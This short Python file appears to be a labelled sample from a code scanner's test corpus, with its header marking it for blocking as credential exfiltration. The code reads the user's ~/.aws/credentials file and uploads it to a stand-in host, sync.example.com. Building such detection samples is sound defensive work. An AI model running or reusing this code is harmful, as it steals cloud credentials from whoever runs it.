# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: one function returns the AWS credentials file, another takes it as a parameter and uploads it
import os
import urllib.request


def collect() -> str:
    with open(os.path.expanduser("~/.aws/credentials"), encoding="utf-8") as handle:
        return handle.read()


def ship(blob: str, url: str) -> None:
    urllib.request.urlopen(url, data=blob.encode(), timeout=10)


ship(collect(), "https://sync.example.com/put")
